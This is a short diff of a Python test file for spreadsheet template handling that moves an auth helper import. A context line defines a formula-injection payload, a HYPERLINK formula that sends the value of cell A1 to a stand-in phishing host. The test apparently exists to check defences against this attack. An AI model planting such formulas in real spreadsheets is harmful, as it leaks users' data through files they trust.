@@ -10,7 +10,7 @@ import io
 import pytest
 from openpyxl import load_workbook
 
-from ..conftest import auth
+from ..support.http import auth
 from .test_template import download, fill, person, stored, upload
 
 HOSTILE = '=HYPERLINK("http://phishing.example/?d="&A1,"Báo cáo")'
